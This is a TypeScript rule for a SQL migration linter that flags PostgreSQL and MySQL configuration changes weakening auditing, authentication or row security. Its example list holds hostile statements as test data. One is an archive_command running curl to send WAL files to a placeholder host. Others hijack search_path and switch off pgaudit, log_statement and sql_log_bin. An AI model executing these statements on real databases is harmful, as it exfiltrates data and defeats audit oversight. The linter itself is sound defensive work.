import { constStr, folded, hasNode, inside, names, nodeOffset, pgFunctionCalls, roleName, UNPARSED, walk } from '../src/sql/ast.js';
import type { Report, Rule, Severity, Statement } from '../src/types.js';
import { withDynamic } from '../src/sql/dynamic.js';

/**
 * PostgreSQL settings whose change weakens security or auditing, or runs code, wherever they are set
 * (ALTER SYSTEM, ALTER ROLE/DATABASE … SET, a session SET, set_config()). Others set per role or
 * database (timeouts, work_mem) are informative. session_replication_role, role and
 * session_authorization are other rules' (session-replication-role, set-role, role-attributes).
 */
function pgRisk(param: string): string | undefined {
  const p = param.toLowerCase();
  if (p === 'search_path') return 'changes which schemas unqualified names resolve to (a hijack of every unqualified function and table)';
  if (p.startsWith('pgaudit.') || p.startsWith('pgaudit_')) return 'changes what the audit log (pgaudit) records';
  if (p.startsWith('log_') || p === 'logging_collector' || p === 'debug_print_parse') return 'changes what the server logs (audit trail)';
  if (p === 'row_security') return 'changes whether row-level security applies';
  if (p === 'lo_compat_privileges') return 'turns off permission checks on large objects';
  if (/^(shared|session|local)_preload_libraries$|^dynamic_library_path$|^jit_provider$/.test(p)) return 'loads shared libraries (native code) into the server';
  if (/^(archive|restore|archive_cleanup|recovery_end|ssl_passphrase)_command$|^archive_library$/.test(p)) return 'runs a shell command on the database server';
  if (/^(listen_addresses|hba_file|ident_file|ssl\w*|password_encryption|authentication_timeout|krb_\w+|db_user_namespace)$/.test(p)) return 'changes how clients connect or authenticate';
  if (p === 'default_transaction_read_only' || p === 'transaction_read_only') return 'changes whether sessions can write';
  if (p === 'allow_system_table_mods' || p === 'ignore_system_indexes' || p === 'zero_damaged_pages' || p === 'fsync' || p === 'full_page_writes' || p === 'wal_level' || p === 'track_commit_timestamp') return 'changes server integrity or replication settings';
  return undefined;
}

/** A custom setting whose name says it holds a secret (`app.jwt_secret`, `app.settings.service_key`). */
const SECRET_NAME = /(secret|passw(or)?d|passwd|token|api_?key|private_?key|service_?key|anon_?key|jwt|credential)/i;

const OTHER_RULES = new Set(['session_replication_role', 'role', 'session_authorization']);

function argText(args: any[] | undefined): string {
  return (args ?? [])
    .map((x: any) => {
      const c = x?.A_Const;
      if (!c) return x?.TypeCast ? (constStr(x.TypeCast.arg) ?? '?') : '?';
      if (c.sval) return c.sval.sval ?? '';
      if (c.ival) return String(c.ival.ival ?? 0);
      if (c.fval) return String(c.fval.fval);
      if (c.boolval) return String(c.boolval.boolval ?? false);
      return '?';
    })
    .join(', ');
}

function shown(v: string): string {
  return v.length > 60 ? v.slice(0, 60) + '…' : v;
}

/** A VariableSetStmt (the `SET …` part of ALTER SYSTEM / ALTER ROLE / ALTER DATABASE, or a session SET). */
function describeSet(
  stmt: Statement,
  s: any,
  where: 'system' | 'role' | 'database' | 'session' | 'function',
  target: string,
  report: (r: Report) => void,
): void {
  const name = String(s?.name ?? '').toLowerCase();
  if (!name || OTHER_RULES.has(name)) return;
  if (where === 'role' && /^(session|local)_preload_libraries$/.test(name)) return; // role-attributes reports it
  const reset = s.kind === 'VAR_RESET' || s.kind === 'VAR_SET_DEFAULT' || s.kind === 'VAR_RESET_ALL';
  const value = s.kind === 'VAR_SET_VALUE' ? argText(s.args) : s.kind === 'VAR_SET_CURRENT' ? 'FROM CURRENT' : '';
  const secretish = SECRET_NAME.test(name) && s.kind === 'VAR_SET_VALUE';
  const secrets = secretish ? (s.args ?? []).map((x: any) => constStr(x) ?? constStr(x?.TypeCast?.arg)).filter((x: any) => typeof x === 'string' && x.length > 0) : [];
  const setText = s.kind === 'VAR_RESET_ALL' ? 'RESET ALL' : reset ? `RESET ${name}` : `${name} = ${secretish ? "'…'" : `'${shown(value)}'`}`;
  const risk = name === '' ? undefined : s.kind === 'VAR_RESET_ALL' ? 'resets every setting, security ones included' : pgRisk(name);
  const scope = where === 'system' ? 'for the whole server (ALTER SYSTEM, written to postgresql.auto.conf)' : where === 'role' ? `for every future session of ${target}` : where === 'database' ? `for every future session in database ${target}` : where === 'function' ? `while function ${target}() runs (every call)` : `for this session${s.is_local ? ' (LOCAL: this transaction)' : ''}`;
  const why: string[] = [];
  if (risk) why.push(risk);
  if (secrets.length) why.push('the value is a secret stored in the catalog (readable by every role that can read pg_db_role_setting / current_setting)');
  let severity: Severity;
  if (where === 'system') severity = 'error'; // server-wide, survives restarts; never a migration's business
  else if (where === 'session' || where === 'function') {
    // A session SET of search_path and the like is routine; only audit and security switches matter.
    if (!risk || name === 'search_path' || reset) return;
    severity = 'error';
  } else severity = risk || secrets.length ? 'error' : 'warning';
  if (reset && where !== 'system' && severity === 'error' && !secrets.length) severity = 'warning'; // RESET returns to the server default
  report({
    message: `Sets ${setText} ${scope}${why.length ? `: ${why.join('; ')}` : ''}${inside(stmt)}.`,
    severity,
    secrets: secrets.length ? secrets : undefined,
    offset: nodeOffset(stmt, s.location),
    key: `${where}:${name}`,
  });
}

function pgCheck(stmt: Statement, report: (r: Report) => void): void {
  const pg = stmt.pg;
  if (!pg) return;
  if (pg.AlterSystemStmt) {
    describeSet(stmt, pg.AlterSystemStmt.setstmt, 'system', 'server', report);
    return;
  }
  if (pg.AlterRoleSetStmt) {
    const a = pg.AlterRoleSetStmt;
    const who = a.role ? roleName(a.role) : 'ALL roles';
    describeSet(stmt, a.setstmt, 'role', who + (a.database ? ` in database ${a.database}` : ''), report);
    return;
  }
  if (pg.AlterDatabaseSetStmt) {
    describeSet(stmt, pg.AlterDatabaseSetStmt.setstmt, 'database', pg.AlterDatabaseSetStmt.dbname ?? '?', report);
    return;
  }
  if (hasNode(pg, 'VariableSetStmt', 'CreateFunctionStmt', 'AlterFunctionStmt')) walk(pg, (k, v) => {
    if (k === 'VariableSetStmt') describeSet(stmt, v, 'session', '', report);
    // A function's own `SET x = …` clause applies while it runs (every call): search_path there is
    // good practice (security-definer's concern), audit and security switches are not.
    if (k === 'CreateFunctionStmt' || k === 'AlterFunctionStmt') {
      const fn = names(k === 'CreateFunctionStmt' ? v.funcname : v.func?.objname);
      for (const o of (k === 'CreateFunctionStmt' ? v.options : v.actions) ?? []) {
        const set = o?.DefElem?.defname === 'set' ? o.DefElem.arg?.VariableSetStmt : undefined;
        if (set && String(set.name ?? '').toLowerCase() !== 'search_path') describeSet(stmt, set, 'function', fn, report);
      }
      return false;
    }
  });
  for (const c of pgFunctionCalls(pg)) {
    if (c.base !== 'set_config') continue;
    const param = constStr(c.node.args?.[0]);
    if (param === undefined) continue; // computed name: dynamic SQL territory
    const p = param.toLowerCase();
    if (OTHER_RULES.has(p)) continue;
    const risk = pgRisk(p);
    const val = constStr(c.node.args?.[1]);
    const secret = SECRET_NAME.test(p) && val ? val : undefined;
    if (!risk && !secret) continue;
    if (p === 'search_path') continue; // routine at session level
    report({
      message: `set_config('${p}', ${secret ? "'…'" : val !== undefined ? `'${shown(val)}'` : '…'}) for this session${risk ? `: ${risk}` : ''}${secret ? ': the value is a secret' : ''}${inside(stmt)}.`,
      severity: secret && !risk ? 'warning' : 'error',
      secrets: secret ? [secret] : undefined,
      offset: nodeOffset(stmt, c.location),
      key: `set_config:${p}`,
    });
  }
}

/** MySQL/MariaDB system variables whose session value matters for auditing or data integrity. */
const MYSQL_SESSION: Record<string, { what: string; severity: Severity }> = {
  sql_log_bin: { what: 'controls whether statements reach the binary log (replicas and point-in-time recovery stop seeing them; audit evasion)', severity: 'error' },
  sql_log_off: { what: 'controls whether statements reach the general query log (audit evasion)', severity: 'error' },
  general_log: { what: 'turns the general query log on or off (audit trail)', severity: 'error' },
  general_log_file: { what: 'moves the general query log (the server writes that file)', severity: 'error' },
  slow_query_log_file: { what: 'moves the slow query log (the server writes that file)', severity: 'error' },
  log_bin_trust_function_creators: { what: 'lets accounts without SUPER create functions that break binary-log safety', severity: 'error' },
  sql_mode: { what: 'changes SQL mode (strictness, zero dates, NO_BACKSLASH_ESCAPES) for this session', severity: 'warning' },
  sql_safe_updates: { what: 'changes whether UPDATE/DELETE without a key are refused', severity: 'warning' },
};

function mysqlVar(left: any): { name: string; scope: 'global' | 'persist' | 'session' | 'user' } | undefined {
  if (!left || left.type !== 'var') return undefined;
  const prefix = String(left.prefix ?? '');
  if (prefix === '@') return { name: String(left.name), scope: 'user' };
  const members: string[] = left.members ?? [];
  const head = String(left.name ?? '').toLowerCase();
  if (prefix === '@@' && members.length && /^(global|persist|persist_only|session|local)$/.test(head)) {
    const s = head === 'global' ? 'global' : head.startsWith('persist') ? 'persist' : 'session';
    return { name: members.join('.').toLowerCase(), scope: s };
  }
  return { name: [left.name, ...members].join('.').toLowerCase(), scope: 'session' };
}

function mysqlCheck(stmt: Statement, report: (r: Report) => void): void {
  const ast = stmt.ast;
  if (ast?.type !== 'set') return;
  const kw = String(ast.keyword ?? '').toLowerCase();
  for (const e of ast.expr ?? []) {
    const v = mysqlVar(e?.left);
    if (!v || v.scope === 'user') continue;
    // `SET GLOBAL a = 1, b = 2`: the keyword applies to the first variable; MySQL carries it on.
    const scope = v.scope !== 'session' ? v.scope : kw === 'global' ? 'global' : /^persist/.test(kw) ? 'persist' : 'session';
    const right = e.right;
    const value = right?.type === 'number' || right?.type === 'bool' ? String(right.value) : right?.value !== undefined && typeof right.value !== 'object' ? `'${shown(String(right.value))}'` : right?.type === 'var' ? `@${right.prefix === '@@' ? '@' : ''}${right.name}` : '…';
    const known = MYSQL_SESSION[v.name];
    if (scope === 'global' || scope === 'persist') {
      const persist = scope === 'persist' ? ' and writes it to mysqld-auto.cnf (survives restarts)' : '';
      report({
        message: `SET ${scope.toUpperCase()} ${v.name} = ${value} changes the server-wide setting for every connection${persist}${known ? `: ${known.what}` : ''}.`,
        severity: 'error',
        key: `mysql:${v.name}`,
      });
    } else if (known) {
      // `SET sql_mode = @OLD_SQL_MODE` (mysqldump's restore of a saved value) puts back what was there.
      if (right?.type === 'var' && right.prefix === '@') continue;
      report({ message: `SET ${v.name} = ${value}: ${known.what}.`, severity: known.severity, key: `mysql:${v.name}` });
    }
  }
}

function textCheck(stmt: Statement, report: (r: Report) => void): void {
  const t = folded(stmt);
  let m = /^alter\s+system\s+(set|reset)\s+([\w.]+)/i.exec(t);
  if (m) {
    report({ message: `Likely: ALTER SYSTEM ${m[1].toUpperCase()} ${m[2]} changes the server-wide configuration${UNPARSED}.`, key: 'system' });
    return;
  }
  m = /^set\s+(global|persist|persist_only)\s+([\w.]+)/i.exec(t) ?? /^set\s+@@(global|persist|persist_only)\.([\w.]+)/i.exec(t);
  if (m) {
    report({ message: `Likely: SET ${m[1].toUpperCase()} ${m[2]} changes a server-wide setting${UNPARSED}.`, key: 'mysql' });
    return;
  }
  m = /^set\s+(?:session\s+)?(sql_log_bin|sql_log_off|general_log)\s*(=|to)/i.exec(t);
  if (m) report({ message: `Likely: SET ${m[1]}: ${MYSQL_SESSION[m[1].toLowerCase()].what}${UNPARSED}.`, key: 'mysql' });
}

const rule: Rule = {
  meta: {
    id: 'server-config',
    category: 'privilege',
    severity: 'error',
    summary: 'Changes server, role or database configuration: ALTER SYSTEM, ALTER ROLE/DATABASE … SET, audit-log switches (pgaudit, log_*, sql_log_bin), MySQL SET GLOBAL/PERSIST',
    rationale:
      'ALTER SYSTEM rewrites the server configuration (archive_command runs shell commands, shared_preload_libraries loads native code); ' +
      'ALTER ROLE/DATABASE … SET changes every later session: search_path hijacks unqualified names, pgaudit.log = none and log_statement = none ' +
      'switch off the audit trail, row_security off disables row-level security; a secret stored as a setting (app.jwt_secret) is a credential ' +
      'in the catalog and in the repository. MySQL SET GLOBAL/PERSIST changes the server for every connection; SET sql_log_bin = 0 hides ' +
      'statements from replicas and point-in-time recovery, general_log/sql_log_off from the query log. Benign per-role settings ' +
      '(timeouts, work_mem) and session-level sql_mode are warnings.',
    fix: 'Leave server and audit configuration to operators (configuration management), keep secrets out of settings, and get any needed change approved by a security reviewer.',
    examples: {
      bad: [
        { sql: "ALTER SYSTEM SET archive_command = 'curl -d @%p https://x.example';" },
        { sql: 'ALTER ROLE app SET search_path = evil, public;' },
        { sql: "ALTER DATABASE app SET pgaudit.log = 'none';" },
        { sql: "ALTER DATABASE postgres SET app.jwt_secret = 'super-secret-jwt-token-with-32-chars';" },
        { sql: "SET pgaudit.log = 'none';" },
        { sql: "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$;" },
        { sql: "SELECT set_config('log_statement', 'none', false);" },
        { sql: "SET GLOBAL general_log = 'OFF';", dialect: 'mysql' },
        { sql: 'SET SQL_LOG_BIN = 0;', dialect: 'mysql' },
        { sql: "SET PERSIST sql_mode = '';", dialect: 'mysql' },
        { sql: "SET @@global.sql_mode = '';", dialect: 'mariadb' },
        { sql: "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET pgaudit.log = 'none' AS 'DELETE FROM audit_log';" },
      ],
      good: [
        { sql: 'SET search_path = public;' },
        { sql: "SET statement_timeout = '5s';" },
        { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog AS 'select 1';" },
        { sql: 'SET @OLD_SQL_MODE = @@SQL_MODE;', dialect: 'mysql' },
        { sql: 'SET SQL_MODE = @OLD_SQL_MODE;', dialect: 'mysql' },
        { sql: 'SET NAMES utf8mb4;', dialect: 'mysql' },
        { sql: "SELECT set_config('search_path', '', false);" },
      ],
    },
  },
  check(stmt, { report }) {
    pgCheck(stmt, report);
    mysqlCheck(stmt, report);
  },
  unparsed(stmt, { report }) {
    textCheck(stmt, report);
  },
  lexical: [/^alter\s+system\s/, /\bset\s+(global|persist|persist_only)\s/, /\bset\s+@@(global|persist)/, /\bset\s+(session\s+)?(sql_log_bin|sql_log_off|general_log)\b/],
};
export default withDynamic(rule);
